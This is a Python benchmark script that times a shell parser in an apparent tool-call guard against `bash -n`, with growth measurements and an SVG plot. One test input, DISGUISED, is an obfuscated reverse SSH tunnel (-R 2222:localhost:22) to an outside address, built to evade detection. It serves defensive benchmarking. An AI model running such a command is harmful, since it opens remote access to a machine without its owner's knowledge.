"""What reading a shell text costs, beside bash reading the same text, and how it grows.

Times are of the processor. `bash -n` and the reader are sampled in turn, in blocks: `read` is
the median of all readings but the first of each block, which finds the caches full of bash and
stands under `cold`. On a machine that others use too, both may double for minutes: read the
ratios. `--hostile` measures calls that are made to cost much, each in a process of its own.
`python benchmarks/parsing.py --help` lists the options.
"""

from __future__ import annotations

import argparse
import gc
import os
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[1]
sys.path.insert(0, str(ROOT))

from guard import Guard, ToolCall  # noqa: E402 - found by the path set above
from guard.parse import Limits, parse, warm_up  # noqa: E402
from guard.parse.budget import Budget  # noqa: E402
from guard.parse.shell.syntax import read  # noqa: E402
from tests.support.hostile_sizes import CALLS, measure  # noqa: E402

ROOMY = Limits(
    cpu_seconds=600, commands=10**6, nodes=10**7, operations=10**6, expansion=10**9, text=10**7
)
PIPELINE = (
    "cat access.log | grep -v bot | cut -d' ' -f1 | tr A-Z a-z | sort | uniq -c | sort -rn"
    " | head -20 | awk '{print $2}' | tee hosts.txt"
)
DISGUISED = 'x=s; y="${x}${x}h"; p=-fNR; $y $p "$((2000 + 222)):localhost:22" u@203.0.113.5'
BLOCK = """log "step $i of $total"
if [ -z "$TARGET" ] || [ ! -d "$TARGET/bin" ]; then
  echo "no target" >&2
  mkdir -p "$TARGET/bin"
fi
for file in src/*.c; do
  name=${file##*/}
  cc -O2 -c "$file" -o "build/${name%.c}.o" || failed=$((failed + 1))
done
tar -czf "out/$VERSION.tar.gz" -C build . >build.log 2>&1
"""
# Microseconds on two idle cores.
TARGETS = {"ls -la": 60, "disguised": 250, "ten stages": 600, "200 lines": 25_000}
KIBS = (1, 2, 4, 8, 16, 32, 64)


def script(lines: int) -> str:
    """An ordinary build script of so many lines."""
    head = "log() {\n  printf '%s\\n' \"$*\"\n}\nTARGET=${1:-/tmp/out} VERSION=1.2.3 failed=0\n"
    blocks, rest = divmod(lines - head.count("\n"), BLOCK.count("\n"))
    return head + BLOCK * blocks + "sync\n" * rest


TEXTS = {
    "ls -la": "ls -la",
    "disguised": DISGUISED,
    "ten stages": PIPELINE,
    "200 lines": script(200),
}


def clocked(action: Callable[[], object]) -> float:
    """Microseconds of processor time that an action takes, those of its children included."""
    start, children = time.thread_time_ns(), resource.getrusage(resource.RUSAGE_CHILDREN)
    action()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    spent = after.ru_utime + after.ru_stime - children.ru_utime - children.ru_stime
    # Starting a child is no part of what the child does.
    return spent * 1e6 if spent > 1e-6 else (time.thread_time_ns() - start) / 1000


def bash(path: Path) -> Callable[[], object]:
    """`bash -n` on a file, its start included."""
    program = shutil.which("bash")
    if program is None:
        sys.exit("bash is not installed, so there is nothing to compare with")
    command = [program, "--norc", "-n", str(path)]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    return lambda: subprocess.run(command, check=True, **quiet)  # type: ignore[call-overload]


def compare(count: int, folder: Path) -> None:
    """Print the reader beside `bash -n` for each text."""
    empty = folder / "empty"
    empty.write_text(":\n")
    start = bash(empty)
    print(
        f"{'median us':12} {'read':>9} {'target':>7} {'cold':>9} {'lowest':>9} {'syntax':>9}"
        f" {'bash -n':>9} {'- start':>9}"
    )
    for name, text in TEXTS.items():
        file = folder / "text"
        file.write_text(text)
        theirs, call = bash(file), ToolCall.shell(text)
        rows: dict[str, list[float]] = {"cold": []}
        actions: dict[str, tuple[Callable[[], object], int]] = {
            "bash": (theirs, 1),
            "start": (start, 1),
            "read": (lambda call=call: parse(call, limits=ROOMY), 21),  # type: ignore[misc]
            "syntax": (lambda text=text: read(text, Budget(ROOMY)), 21),  # type: ignore[misc]
        }
        for _ in range(count):
            for row, (action, times) in actions.items():
                block = [clocked(action) for _ in range(times)]
                rows.setdefault(row, []).extend(block[times > 1 :])
                rows["cold"] += block[:1] if row == "read" else []
        middle = {row: statistics.median(values) for row, values in rows.items()}
        own = middle["bash"] - middle["start"]
        print(
            f"{name:12} {middle['read']:9.0f} {TARGETS[name]:7} {middle['cold']:9.0f}"
            f" {min(rows['read']):9.0f} {middle['syntax']:9.0f}"
            f" {middle['bash']:9.0f} {own:9.0f}"
            f"   read / bash -n = {middle['read'] / middle['bash']:.2f}"
        )


def grow(count: int, folder: Path) -> list[tuple[float, float, float]]:
    """Print and return (KiB, reader ms, `bash -n` ms) for scripts of growing length."""
    points = []
    print(f"\n{'KiB':>6} {'read ms':>9} {'ms/KiB':>7} {'bash -n ms':>11}")
    for kib in KIBS:
        lines = kib * 1024 // (len(BLOCK) // BLOCK.count("\n"))
        text = script(lines)
        file = folder / "text"
        file.write_text(text)
        call, theirs = ToolCall.shell(text), bash(file)
        ours_ms, theirs_ms = [], []
        for _ in range(max(3, count // kib)):
            gc.collect()
            ours_ms.append(clocked(lambda call=call: parse(call, limits=ROOMY)) / 1000)  # type: ignore[misc]
            theirs_ms.append(clocked(theirs) / 1000)
        size = len(text) / 1024
        points.append((size, statistics.median(ours_ms), statistics.median(theirs_ms)))
        print(f"{size:6.1f} {points[-1][1]:9.2f} {points[-1][1] / size:7.2f} {points[-1][2]:11.2f}")
    return points


def draw(points: list[tuple[float, float, float]]) -> str:
    """The points as a plot with straight axes, in SVG."""
    width, height, left, low = 640, 360, 60, 310
    most = max(point[1] for point in points) * 1.1

    def across(kib: float) -> float:
        return left + kib / 66 * (width - left - 20)

    def up(ms: float) -> float:
        return low - ms / most * (low - 30)

    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}"'
        ' font-family="sans-serif" font-size="12">',
        f'<rect width="{width}" height="{height}" fill="white"/>',
        f'<path d="M{left} 30V{low}H{width - 20}" fill="none" stroke="#444"/>',
        f'<text x="{width / 2}" y="350" text-anchor="middle">length of the script, KiB</text>',
        f'<text x="{left}" y="20">ms of one reading (median)</text>',
    ]
    for kib in KIBS[3:]:
        x = across(kib)
        parts.append(f'<path d="M{x:.0f} {low}v5" stroke="#444"/>')
        parts.append(f'<text x="{x:.0f}" y="{low + 18}" text-anchor="middle">{kib}</text>')
    step = 10 ** (len(str(int(most))) - 1)
    for ms in range(step, int(most), step):
        parts.append(f'<path d="M{left} {up(ms):.0f}h{width - left - 20}" stroke="#ddd"/>')
        parts.append(f'<text x="{left - 6}" y="{up(ms) + 4:.0f}" text-anchor="end">{ms}</text>')
    for row, (name, colour) in enumerate((("guard.parse", "#06c"), ("bash -n", "#c60")), 1):
        line = " ".join(f"{across(point[0]):.1f},{up(point[row]):.1f}" for point in points)
        parts.append(f'<polyline points="{line}" fill="none" stroke="{colour}" stroke-width="2"/>')
        for cx, cy in (pair.split(",") for pair in line.split()):
            parts.append(f'<circle cx="{cx}" cy="{cy}" r="3" fill="{colour}"/>')
        parts.append(f'<text x="{left + 20}" y="{30 + 18 * row}" fill="{colour}">{name}</text>')
    return "\n".join([*parts, "</svg>", ""])


def hostile(show: int) -> None:
    """Print the calls that cost most, read alone and judged by the whole guard."""
    warm_up()
    # The parser of SQL is loaded by the first statement of a process; no call pays for it.
    parse(ToolCall("sql", {"query": "SELECT 1"}))
    guard = Guard()
    judges: dict[str, Callable[[ToolCall], Any]] = {
        "read": lambda call: sorted({part["kind"] for part in parse(call).opaque}),
        "judged": lambda call: str(guard.check(call).effect),
    }
    for name, judge in judges.items():
        rows = sorted(measure(CALLS, judge), key=lambda row: -row["cpu"])
        over = sum(row["cpu"] > 0.25 for row in rows)
        grown = max(row["growth"] for row in rows) / 2**20
        print(f"\n{len(rows)} hostile calls {name}: {over} over 250 ms, peak +{grown:.0f} MiB")
        for row in rows[:show]:
            answer, mib = row["error"] or row["answer"], row["growth"] / 2**20
            print(f"{row['cpu'] * 1000:8.1f} ms {mib:6.1f} MiB  {row['name']}: {answer}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=100, help="rounds of each row")
    parser.add_argument("--plot", type=Path, help="where to write the plot (SVG)")
    parser.add_argument("--hostile", type=int, default=0, metavar="N", help="show the N costliest")
    options = parser.parse_args()
    print(f"{os.cpu_count()} cores, load {os.getloadavg()[0]:.1f}, Python {sys.version.split()[0]}")
    warm_up()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        compare(options.count, folder)
        points = grow(options.count, folder)
    if options.plot:
        options.plot.write_text(draw(points))
    if options.hostile:
        hostile(options.hostile)


if __name__ == "__main__":
    main()
